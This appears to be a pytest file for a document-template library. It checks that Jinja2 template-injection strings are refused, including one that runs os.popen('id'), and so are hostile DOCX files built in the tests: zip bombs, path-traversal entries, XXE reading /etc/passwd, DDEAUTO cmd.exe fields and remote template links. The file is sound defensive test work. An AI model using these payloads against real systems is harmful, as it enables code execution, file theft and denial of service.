"""Files and templates that would do harm are refused, quickly and in little memory."""

import io
import random
import struct
import subprocess
import sys
import tempfile
import time
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from jinja2 import Environment
from lxml import etree

from continuity.documents import TemplateRefused, compile_template, lint, package
from tests.documents.making import body, png, render, repacked, table, word

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PLAIN = word("Hej {{ namn }}")

ATTACKS = [
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.getcwd() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ namn.__class__ }}",
    "{{ namn['__class__'] }}",
    "{{ namn|attr('__class__') }}",
    "{{ self.__init__ }}",
    "{{ self._TemplateReference__context }}",
    "{{ lipsum.__globals__ }}",
    "{{ joiner() }}",
    "{{ namespace(a=1) }}",
    "{{ range(999999999) }}",
    "{{ dict(a=1) }}",
    "{{ namn.format(namn) }}",
    "{{ namn.upper() }}",
    "{{ ('x' * 300000000) }}",
    "{{ 9 ** 9 ** 9 }}",
    "{{ 1 // 0 }}",
    "{{ 7 * 7 }}",
    "{{ 10 % 3 }}",
    "{{ {'a': 1} }}",
    "{{ namn[0:2] }}",
    "{{ xs|map('upper')|map(attribute='__class__') }}",
    "{{ xs|selectattr('__class__') }}",
    "{{ xs|sort(attribute='a.__class__') }}",
    "{{ xs|groupby('a') }}",
    "{{ namn|safe }}",
    "{{ namn|replace('a', 'b') }}",
    "{{ namn|format('%n') }}",
    "{{ namn|tojson }}",
    "{{ namn|pprint }}",
    "{{ caller() }}",
    "{{ _ }}",
    "{{ _private }}",
    "{% set __x = 1 %}",
    "{% set namn.x = 1 %}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% extends 'x' %}",
    "{% macro m() %}{% endmacro %}",
    "{% call m() %}{% endcall %}",
    "{% block b %}{% endblock %}",
    "{% filter upper %}{% endfilter %}",
    "{% raw %}{{ x }}{% endraw %}",
    "{% do namn.append(1) %}",
    "{% with a = 1 %}{% endwith %}",
    "{% autoescape false %}{% endautoescape %}",
    "{% for x in xs recursive %}{{ loop(x) }}{% endfor %}",
    "{% for x in range(9) %}{% endfor %}",
    "{{ loop.__class__ }}",
    "{{ namn }}{% endfor %}{% for x in ().__class__ %}",
    "{{ lambda: 1 }}",
    "{{ namn if namn.__class__ else 1 }}",
    "{{ namn is divisibleby(0) }}",
    "{{ namn is sameas none }}",
    "{{ xs|join(attribute='__class__') }}",
    "{{ namn ~ namn.__doc__ }}",
    "{{ *xs }}",
    "{{ namn; import os }}",
    '{{ """x""".__class__ }}',
    "{{ namn|default(namn.__class__) }}",
    "{{ xs|sum(start=[]) }}",
    "{{ xs|batch(99999999) }}",
    "{{ namn|center(999999999) }}",
    "{{ namn|indent(999999999) }}",
    "{{ namn|wordwrap(0) }}",
    "{{ namn|urlize }}",
    "{{ namn|xmlattr }}",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_through_a_tag_is_refused(attack: str) -> None:
    with pytest.raises(TemplateRefused):
        render(word(attack), {"namn": "x", "xs": [{"a": 1}]})


def test_the_attacks_are_real() -> None:
    """The same words do harm where no one guards against them: the list above tests something."""
    open_door = Environment(autoescape=False)  # what must never be used
    assert open_door.from_string(ATTACKS[1]).render() == str(Path.cwd())
    assert "<class" in open_door.from_string(ATTACKS[3]).render(namn="x")
    assert len(open_door.from_string("{{ ('x' * 300000) }}").render()) == 300_000


def test_objects_cannot_be_reached_even_when_they_are_among_the_values() -> None:
    class Secret:
        hemlig = "lösenord"

    for template in (
        "{{ a.hemlig }}",
        "{{ a['hemlig'] }}",
        "{{ a }}",
        "{{ [a] | map(attribute='hemlig') | join }}",
        "{{ a | upper }}",
    ):
        with pytest.raises(Exception, match="Det gäller taggen"):
            render(word(template), {"a": Secret()})


# --- the file ----------------------------------------------------------------------------------------------------


def related(kind: str, target: str, mode: str = "External", part: str = "word/document.xml") -> bytes:
    """A template with one more relation."""
    folder, _, name = part.rpartition("/")
    how = f' TargetMode="{mode}"' if mode else ""
    relation = f'<Relationship Id="rIdX" Type="{R}/{kind}" Target="{target}"{how}/>'
    target_part = f"{folder}/_rels/{name}.rels"
    if part != "word/document.xml":
        namespace = "http://schemas.openxmlformats.org/package/2006/relationships"
        return repacked(PLAIN, {target_part: f'<Relationships xmlns="{namespace}">{relation}</Relationships>'})
    return repacked(
        PLAIN,
        edit=lambda at, text: (
            text.replace("</Relationships>", f"{relation}</Relationships>") if at == target_part else text
        ),
    )


def with_type(name: str, kind: str, data: bytes = b"x") -> bytes:
    """A template with one more part, declared with its content type."""
    override = f'<Override PartName="/{name}" ContentType="{kind}"/>'
    return repacked(
        PLAIN,
        {name: data},
        lambda at, text: text.replace("</Types>", f"{override}</Types>") if at == "[Content_Types].xml" else text,
    )


def main_type(kind: str) -> bytes:
    """A template whose main part says it is something else."""
    old = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return repacked(PLAIN, edit=lambda at, text: text.replace(old, kind) if at == "[Content_Types].xml" else text)


def prefixed(head: str) -> bytes:
    """A template whose main part begins with this instead of its XML declaration."""
    return repacked(
        PLAIN, edit=lambda at, text: head + text[text.index("?>") + 2 :] if at == "word/document.xml" else text
    )


def zipped(write: Callable[[zipfile.ZipFile], None], base: bytes = PLAIN) -> bytes:
    """A template with entries written by hand at the end."""
    file = io.BytesIO(base)
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as archive:
        write(archive)
    return file.getvalue()


def entry(name: str, data: bytes = b"<x/>") -> bytes:
    """A template with one more entry of any name."""
    return zipped(lambda archive: archive.writestr(name, data))


def duplicate() -> bytes:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return entry("word/document.xml")


def symlink() -> bytes:
    info = zipfile.ZipInfo("word/media/lank.png")
    info.external_attr = 0o120777 << 16
    return zipped(lambda archive: archive.writestr(info, "/etc/passwd"))


def field(*codes: str) -> bytes:
    """A template with a field, its code split over runs."""
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    return body(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def nested_field() -> bytes:
    begin, end = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    inner = f"{begin}<w:r><w:instrText>SYMBOL 68</w:instrText></w:r>{end}"
    return body(f"<w:p>{begin}{inner}<w:r><w:instrText>DEAUTO c:\\\\x</w:instrText></w:r>{end}</w:p>")


def encrypted() -> bytes:
    data = bytearray(PLAIN)
    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(signature)
        while start >= 0:
            data[start + at] |= 1
            start = data.find(signature, start + 4)
    return bytes(data)


def overlapping() -> bytes:
    """Two entries of the directory that share the same bytes."""
    data = bytearray(PLAIN)
    start = data.find(b"PK\x01\x02")
    second = data.find(b"PK\x01\x02", start + 4)
    data[second + 42 : second + 46] = data[start + 42 : start + 46]
    return bytes(data)


def lying_size() -> bytes:
    """An entry that says it is smaller than it is."""
    data = bytearray(PLAIN)
    at = data.find(b"PK\x01\x02")
    size = struct.unpack("<I", data[at + 24 : at + 28])[0]
    data[at + 24 : at + 28] = struct.pack("<I", size - 1)
    return bytes(data)


HOSTILE = {
    "no file": b"",
    "text": b"hej",
    "a zip": zipped(lambda archive: archive.writestr("x", "y"), b""),
    "old Word or encrypted": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "cut off": PLAIN[:-200],
    "encrypted entry": encrypted(),
    "zip bomb": entry("word/media/a.png", b"\0" * 30_000_000),
    "huge zip bomb": entry("word/media/a.png", b"\0" * 300_000_000),
    "many entries": zipped(lambda archive: [archive.writestr(f"word/{n}.xml", "<x/>") for n in range(1001)] and None),
    "duplicate entry": duplicate(),
    "duplicate by case": entry("WORD/DOCUMENT.XML"),
    "parent folder": entry("../x.xml"),
    "parent folder inside": entry("word/../../x.xml"),
    "absolute name": entry("/etc/x.xml"),
    "drive": entry("C:/x.xml"),
    "backslash": entry("word\\x.xml"),
    "control sign in a name": entry("word/a\nb.xml"),
    "link to a file": symlink(),
    "overlapping entries": overlapping(),
    "lying size": lying_size(),
    "bytes before": b"MZ" + PLAIN,
    "nested archive": with_type("word/media/a.png", "image/png", PLAIN),
    "entity": prefixed('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
    "billion laughs": prefixed('<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>'),
    "entity in a small part": with_type("word/x.xml", "application/xml", b'<!DOCTYPE x [<!ENTITY e "1">]><x>&e;</x>'),
    "entity in UTF-16": with_type(
        "customXml/i.xml", "application/xml", '<!DOCTYPE x [<!ENTITY e "1">]><x/>'.encode("utf-16")
    ),
    "entity in UTF-7": with_type("word/x.xml", "application/xml", b'<?xml version="1.0" encoding="utf-7"?><x/>'),
    "broken XML": with_type("word/x.xml", "application/xml", b"<x>"),
    "deep XML": with_type("word/x.xml", "application/xml", b"<x>" * 2000 + b"</x>" * 2000),
    "macro": with_type("word/vbaProject.bin", "application/vnd.ms-office.vbaProject"),
    "macro document": main_type("application/vnd.ms-word.document.macroEnabled.main+xml"),
    "macro template": main_type("application/vnd.ms-word.template.macroEnabledTemplate.main+xml"),
    "template type": main_type("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"),
    "spreadsheet": main_type("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
    "ActiveX": with_type("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", b"<x/>"),
    "OLE": with_type(
        "word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", b"\xd0\xcf\x11\xe0"
    ),
    "OLE as a picture": with_type("word/media/a.png", "image/png", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    "program as a font": with_type(
        "word/fonts/a.odttf", "application/vnd.openxmlformats-officedocument.obfuscatedFont", b"MZ\x90\0"
    ),
    "embedded package": with_type(
        "word/embeddings/a.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", PLAIN
    ),
    "inserted page": with_type("word/afchunk.html", "text/html", b"<html/>"),
    "unknown type": with_type("word/x.bin", "application/octet-stream"),
    "no type": entry("word/x.dat", b"x"),
    "attached template": related("attachedTemplate", "http://ond.example/mall.dotm", part="word/settings.xml"),
    "attached template, local": related("attachedTemplate", "file:///C:/Normal.dotm", part="word/settings.xml"),
    "picture from elsewhere": related("image", "http://ond.example/a.png"),
    "frame": related("frame", "http://ond.example/"),
    "inserted document from elsewhere": related("aFChunk", "http://ond.example/a.html"),
    "inserted document": related("aFChunk", "document.xml", ""),
    "OLE from elsewhere": related("oleObject", "http://ond.example/a"),
    "sub-document": related("subDocument", "http://ond.example/a.docx"),
    "link to a file share": related("hyperlink", "file://server/share"),
    "link to a share": related("hyperlink", "\\\\\\\\server\\\\share"),
    "javascript": related("hyperlink", "javascript:alert(1)"),
    "mhtml": related("hyperlink", "mhtml:http://ond.example!x-usc:http://ond.example/"),
    "search-ms": related("hyperlink", "search-ms:query=x"),
    "missing part": related("image", "media/finns-inte.png", ""),
    "DDE": field("DDEAUTO c:\\\\windows\\\\cmd.exe"),
    "DDE in pieces": field("DD", "EAU", "TO c:\\\\x"),
    "dde in small letters": field(" dde excel"),
    "DDE by a nested field": nested_field(),
    "INCLUDETEXT": field("INCLUDETEXT c:\\\\x"),
    "INCLUDEPICTURE": field('INCLUDEPICTURE "http://ond.example/a.png"'),
    "MACROBUTTON": field("MACROBUTTON x y"),
    "DATABASE": field("DATABASE x"),
    "LINK": field("LINK Excel.Sheet x"),
    "QUOTE": field("QUOTE 68 68 69"),
    "HYPERLINK to a share": field('HYPERLINK "\\\\\\\\server\\\\x"'),
    "HYPERLINK to a file": field('HYPERLINK \\o "tips" "file:///x"'),
    "simple field": body('<w:p><w:fldSimple w:instr="DDEAUTO x"/></w:p>'),
    "unclosed field": body('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>'),
    "picture by address": body(
        '<w:p><w:r><w:pict><v:shape id="s"><v:imagedata src="http://ond.example/a.png"/></v:shape></w:pict></w:r></w:p>'
    ),
    "fill by address": body(
        '<w:p><w:r><w:pict><v:rect id="s"><v:fill src="\\\\\\\\server\\\\a.png"/></v:rect></w:pict></w:r></w:p>'
    ),
    "object": body("<w:p><w:r><w:object/></w:r></w:p>"),
    "altChunk": body('<w:altChunk r:id="rId1"/>'),
    "mail merge": repacked(
        PLAIN,
        edit=lambda at, text: text.replace("<w:zoom", "<w:mailMerge/><w:zoom") if at == "word/settings.xml" else text,
    ),
    "no styles": repacked(
        PLAIN, {"word/styles.xml": None}, lambda at, text: text.replace("/styles.xml", "/finns-inte.xml")
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused_by_the_compiler_and_by_lint_within_a_second(name: str) -> None:
    start = time.perf_counter()
    with pytest.raises(TemplateRefused) as caught:
        compile_template(HOSTILE[name], name="ond.docx")
    assert time.perf_counter() - start < 1
    assert caught.value.complaints[0].file == "ond.docx"
    assert any(fault.severity == "error" for fault in lint(HOSTILE[name], name="ond.docx"))


def test_the_harmless_twin_of_each_is_accepted() -> None:
    """The positive control: the same builders with innocent contents are let through."""
    for source in (
        PLAIN,
        with_type("customXml/i.xml", "application/xml", b"<x/>"),
        with_type("word/media/a.png", "image/png", png()),
        related("hyperlink", "https://malarvik.se/"),
        related("hyperlink", "mailto:a@malarvik.se"),
        field("PAGE"),
        field('HYPERLINK "https://malarvik.se"'),
        field('HYPERLINK \\l "bokmärke"'),
        field(' TOC \\o "1-3" \\h \\z '),
        field("PA", "GE"),
        table(("a", "b")),
    ):
        compile_template(source)


def test_everything_wrong_is_said_at_once() -> None:
    source = repacked(field("DDE x"), {"word/x.bin": b"x"})
    with pytest.raises(TemplateRefused) as caught:
        compile_template(source)
    assert {complaint.key for complaint in caught.value.complaints} == {"word/x.bin", "word/document.xml"}


def test_refusing_a_bomb_takes_little_memory() -> None:
    """In a process of its own, above what the imports take."""
    script = (
        "import sys, re\n"
        "from continuity.documents import lint\n"
        "def peak(): return int(re.findall(r'VmHWM:\\s+(\\d+)', open('/proc/self/status').read())[0])\n"
        "data = open(sys.argv[1], 'rb').read(); start = peak()\n"
        "assert lint(data); print(peak() - start)\n"
    )
    big = b"<x>" + b"".join(b"<a b='%d'/>" % n for n in range(400_000)) + b"</x>"
    with tempfile.TemporaryDirectory() as folder:
        for source in (HOSTILE["huge zip bomb"], with_type("word/x.xml", "application/xml", big), HOSTILE["deep XML"]):
            path = Path(folder) / "ond.docx"
            path.write_bytes(source)
            done = subprocess.run([sys.executable, "-c", script, str(path)], capture_output=True, text=True, check=True)
            assert int(done.stdout) < 100_000


def test_a_header_that_disagrees_with_the_directory_is_refused() -> None:
    data = bytearray(PLAIN)
    at = data.find(b"word/document.xml")
    data[at : at + 4] = b"evil"
    with pytest.raises(TemplateRefused):
        compile_template(bytes(data))


def test_random_damage_never_gets_past_as_anything_but_a_refusal() -> None:
    chance = random.Random(4)
    for _ in range(150):
        data = bytearray(PLAIN)
        for _ in range(chance.randint(1, 12)):
            data[chance.randrange(len(data))] = chance.randrange(256)
        try:
            compile_template(bytes(data)).render({"namn": "x"})
        except TemplateRefused as refused:
            assert refused.complaints


def test_a_part_that_memory_does_not_suffice_for_is_not_called_damaged(monkeypatch: pytest.MonkeyPatch) -> None:
    def short_of_memory(*_: object) -> None:
        raise etree.XMLSyntaxError("unknown error", etree.ErrorTypes.ERR_NO_MEMORY, 0, 0)

    monkeypatch.setattr(package.etree, "fromstring", short_of_memory)
    with pytest.raises(MemoryError):
        package.parse_xml("word/styles.xml", b"<a/>")
